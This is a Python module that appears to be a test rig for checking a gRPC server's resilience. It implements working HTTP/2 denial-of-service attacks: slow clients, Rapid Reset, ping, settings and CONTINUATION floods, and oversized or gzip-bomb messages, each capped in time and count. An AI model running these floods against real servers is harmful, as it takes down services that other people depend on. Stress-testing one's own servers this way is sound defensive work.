"""What hostile clients do to a server over the network, each bounded in count and time: for the rig, and for tests.

Each attack is an asynchronous context manager: it goes on while the context is open, for a minute at most, and gives
what it has come to so far. Loopback and networks of one's own only.
"""

from __future__ import annotations

import asyncio
import gzip
import socket
import struct
from collections import Counter
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from typing import Any, Literal

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Encoder, NeverIndexedHeaderTuple

CHECK = "/grpc.health.v1.Health/Check"

_LONGEST_S = 60.0
_MOST_CONNECTIONS = 2000
_TRICKLE_S = 0.2
_BURST_S = 0.01
_RECONNECT_S = 0.05
_CONNECT_S = 10.0
_TRICKLED = 4000

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
_ACK = _END_STREAM = 0x1
_END_HEADERS = 0x4
_CANCEL = struct.pack(">I", 0x8)
_NO_WINDOW = struct.pack(">HI", 0x4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE
_FRAME_HEAD = 9
Slow = Literal["silent", "headers", "body", "window"]
"""How a slow client is slow: it says nothing; it sends a call's headers, or its message, a byte at a time; it asks and
lets nothing of the answer come (a window of zero bytes)."""
Large = Literal["announced", "sent", "bomb"]
"""How a message is too large: its prefix announces 2 GiB; all of it is sent; it is small until it is unpacked."""


@dataclass(slots=True)
class Tally:
    """What an attack has come to.

    Attributes:
        connections: that the server took.
        closed: of those, how many it is known to have closed itself.
        sent: calls, pings, frames or messages.
        statuses: how calls were answered, by gRPC's number; "reset" and "closed" are without one.
    """

    connections: int = 0
    closed: int = 0
    sent: int = 0
    statuses: Counter[str] = field(default_factory=Counter)


def session(method: str = CHECK, message: bytes = b"") -> bytes:
    """All that a client sends for one call on a new connection, to be damaged. HTTP/2's preface is 24 bytes of it."""
    headers = _frame(_HEADERS, _END_HEADERS, 1, _encoded(_headers(method)))
    return _opening() + headers + _frame(_DATA, _END_STREAM, 1, _framed(message))


@asynccontextmanager
async def slow_connections(
    address: str, count: int, kind: Slow, *, method: str = CHECK, message: bytes = b""
) -> AsyncIterator[Tally]:
    """`count` connections at one time that stay as long as the server lets them; entered once all have been tried."""
    if count > _MOST_CONNECTIONS:
        raise ValueError(f"{count} connections; at most {_MOST_CONNECTIONS}")
    tally = Tally()
    headers = _frame(_HEADERS, _END_HEADERS, 1, _encoded(_headers(method)))
    long = _frame(_HEADERS, _END_HEADERS, 1, _encoded([*_headers(method), ("x-long", "x" * _TRICKLED)]))
    data = _frame(_DATA, _END_STREAM, 1, _framed(message))
    # A frame for each byte of a body: within a frame, answers to pings would be taken for more of it.
    body = [_frame(_DATA, 0, 1, bytes([byte])) for byte in _framed(bytes(_TRICKLED))]
    at_once, trickled = {
        "silent": (b"", []),
        "headers": (_opening() + long[:-_TRICKLED], [bytes([byte]) for byte in long[-_TRICKLED:]]),
        "body": (_opening() + headers, body),
        "window": (_opening(_NO_WINDOW) + headers + data, []),
    }[kind]

    tried, all_tried = 0, asyncio.Event()

    async def hold() -> None:
        nonlocal tried
        peer = _Peer(address, tally, answers=kind != "silent")
        try:
            await peer.connect()
        finally:
            tried += 1
            if tried == count:
                all_tried.set()
        async with peer:
            await peer.send(at_once)
            for part in trickled:
                await asyncio.sleep(_TRICKLE_S)
                await peer.send(part)
            await peer.closed()

    async with _running([hold() for _ in range(count)]):
        async with asyncio.timeout(_CONNECT_S):
            await all_tried.wait()
        yield tally


@asynccontextmanager
async def rapid_reset(
    address: str, per_s: int = 5000, *, method: str = CHECK, message: bytes = b""
) -> AsyncIterator[Tally]:
    """Calls that are cancelled as they are sent (CVE-2023-44487)."""
    headers, body = _encoded(_headers(method)), _framed(message)

    def call(number: int) -> bytes:
        stream = 2 * number + 1
        return (
            _frame(_HEADERS, _END_HEADERS, stream, headers)
            + _frame(_DATA, _END_STREAM, stream, body)
            + _frame(_RESET, 0, stream, _CANCEL)
        )

    async with _flood(address, per_s, call) as tally:
        yield tally


@asynccontextmanager
async def ping_flood(address: str, per_s: int = 20_000) -> AsyncIterator[Tally]:
    """Pings, whose answers are never read (CVE-2019-9512)."""
    async with _flood(
        address, per_s, lambda number: _frame(_PING, 0, 0, struct.pack(">Q", number)), reads=False
    ) as tally:
        yield tally


@asynccontextmanager
async def settings_flood(address: str, per_s: int = 20_000) -> AsyncIterator[Tally]:
    """Settings, whose acknowledgements are never read (CVE-2019-9515)."""
    async with _flood(address, per_s, lambda _: _frame(_SETTINGS, 0, 0), reads=False) as tally:
        yield tally


@asynccontextmanager
async def endless_headers(address: str, per_s: int = 2000, *, method: str = CHECK) -> AsyncIterator[Tally]:
    """A call's headers, which go on for ever (CVE-2024-27316)."""
    begin, more = _encoded(_headers(method)), _encoded([(f"x-{'y' * 100}", "z" * 400)])

    def part(number: int) -> bytes:
        return _frame(_CONTINUATION, 0, 1, more) if number else _frame(_HEADERS, 0, 1, begin)

    async with _flood(address, per_s, part) as tally:
        yield tally


@asynccontextmanager
async def oversized(
    address: str,
    kind: Large,
    *,
    method: str = CHECK,
    message_bytes: int = 100_000_000,
    at_once: int = 4,
    per_s: int = 20,
) -> AsyncIterator[Tally]:
    """Calls whose messages are too large, each on a connection of its own.

    Args:
        message_bytes: of one message; a bomb has them when it is unpacked.
        at_once: calls in flight, at most.
        per_s: calls begun, at most.
    """
    tally = Tally()
    content = bytes(message_bytes)
    if kind == "bomb":
        content = await asyncio.to_thread(gzip.compress, content, 1)
    announced = 1 << 31 if kind == "announced" else len(content)
    body = struct.pack(">BI", kind == "bomb", announced) + content

    async def send() -> None:
        while True:
            peer = _Peer(address, tally, reads=False)
            try:
                await peer.connect()
                async with peer:
                    status = await _status(peer, method, body)
            except (OSError, h2.exceptions.H2Error):
                status = "closed"
            tally.sent += 1
            tally.statuses[status] += 1
            await asyncio.sleep(at_once / per_s)

    async with _running([send() for _ in range(at_once)]):
        yield tally


@asynccontextmanager
async def _running(tasks: list[Coroutine[Any, Any, None]]) -> AsyncIterator[None]:
    """All of them, until the context is left; what a server does to them is no error."""

    async def bounded(task: Coroutine[Any, Any, None]) -> None:
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(_LONGEST_S):
                await task

    running = [asyncio.ensure_future(bounded(task)) for task in tasks]
    try:
        yield
    finally:
        for each in running:
            each.cancel()
        for result in await asyncio.gather(*running, return_exceptions=True):
            if isinstance(result, Exception):
                raise result


@asynccontextmanager
async def _flood(
    address: str, per_s: int, frames: Callable[[int], bytes], *, reads: bool = True
) -> AsyncIterator[Tally]:
    """`frames(0)`, `frames(1)` and so on by the clock, on a new connection from 0 on where one is closed."""
    tally = Tally()

    async def send() -> None:
        clock = asyncio.get_running_loop().time
        while True:
            with suppress(OSError):
                peer = _Peer(address, tally, reads=reads)
                await peer.connect()
                async with peer:
                    await peer.send(_opening())
                    began, number = clock(), 0
                    while not peer.over:
                        due = int((clock() - began) * per_s) + 1
                        due = min(due, number + per_s // 10)  # behind by more, as where the server does not read
                        await peer.send(b"".join(frames(each) for each in range(number, due)))
                        tally.sent += due - number
                        number = due
                        await asyncio.sleep(_BURST_S)
            await asyncio.sleep(_RECONNECT_S)

    async with _running([send()]):
        yield tally


class _Peer:
    """One connection."""

    def __init__(self, address: str, tally: Tally, *, reads: bool = True, answers: bool = True) -> None:
        """Args:
        reads: whether it takes in what comes, and knows when the server closes.
        answers: whether it acknowledges settings and pings, as a client that wants to stay does.
        """
        host, _, port = address.rpartition(":")
        self._address = host, int(port)
        self._tally = tally
        self._reads = reads
        self._answers = answers
        self._loop = asyncio.get_running_loop()
        self._socket = socket.socket()
        self._listening: asyncio.Future[None] | None = None
        self._ended = asyncio.Event()

    @property
    def over(self) -> bool:
        """Whether the server has closed it."""
        return self._ended.is_set()

    async def connect(self) -> None:
        """Raises:
        OSError: the server does not take it.
        """
        self._socket.setblocking(False)
        try:
            await self._loop.sock_connect(self._socket, self._address)
        except BaseException:
            self._socket.close()
            raise
        self._tally.connections += 1
        if self._reads:
            self._listening = asyncio.ensure_future(self._listen())

    async def __aenter__(self) -> _Peer:
        return self

    async def __aexit__(self, *_: object) -> None:
        self._tally.closed += self.over
        try:
            if self._listening is not None:
                self._listening.cancel()
                await asyncio.wait([self._listening])
        finally:  # the caller may be cancelled while it waits
            self._socket.close()

    async def send(self, data: bytes) -> None:
        """Raises:
        OSError: the server has closed the connection.
        """
        try:
            await self._loop.sock_sendall(self._socket, data)
        except OSError:
            self._ended.set()
            raise

    async def receive(self) -> bytes:
        """b"" once the server has closed the connection."""
        return await self._loop.sock_recv(self._socket, 1 << 18)

    async def closed(self) -> None:
        await self._ended.wait()

    async def _listen(self) -> None:
        received = bytearray()
        with suppress(OSError):
            while part := await self.receive():
                received += part
                while len(received) >= _FRAME_HEAD + (size := int.from_bytes(received[:3], "big")):
                    kind, flags, payload = received[3], received[4], bytes(received[_FRAME_HEAD : _FRAME_HEAD + size])
                    del received[: _FRAME_HEAD + size]
                    if self._answers and kind in (_SETTINGS, _PING) and not flags & _ACK:
                        await self.send(_frame(kind, _ACK, 0, payload if kind == _PING else b""))
        self._ended.set()


async def _status(peer: _Peer, method: str, body: bytes) -> str:
    """How one call ends whose message is sent for as long as the server takes it.

    Raises:
        OSError, h2.exceptions.H2Error: the server closes the connection.
    """
    http = h2.connection.H2Connection(h2.config.H2Configuration(validate_inbound_headers=False))
    http.initiate_connection()
    packed = [("grpc-encoding", "gzip")] if body[0] else []
    http.send_headers(1, [*_headers(method), *packed])
    sent, status = 0, "reset"
    while True:
        while room := min(http.local_flow_control_window(1), http.max_outbound_frame_size, len(body) - sent):
            http.send_data(1, body[sent : sent + room], end_stream=sent + room == len(body))
            sent += room
            await peer.send(http.data_to_send())
        await peer.send(http.data_to_send())
        received = await peer.receive()
        for event in http.receive_data(received):
            match event:
                case h2.events.ResponseReceived() | h2.events.TrailersReceived():
                    status = dict(event.headers).get(b"grpc-status", status.encode()).decode()
                case h2.events.StreamEnded() | h2.events.StreamReset():
                    return status
        if not received:
            return "closed"


def _opening(settings: bytes = b"") -> bytes:
    return _PREFACE + _frame(_SETTINGS, 0, 0, settings)


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _framed(message: bytes) -> bytes:
    """gRPC's own frame, uncompressed."""
    return b"\0" + struct.pack(">I", len(message)) + message


def _headers(method: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", "test"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]


def _encoded(headers: list[tuple[str, str]]) -> bytes:
    """Bytes that mean the same wherever they stand on a connection: nothing in them is indexed."""
    encoded: bytes = Encoder().encode([NeverIndexedHeaderTuple(*pair) for pair in headers], huffman=False)
    return encoded
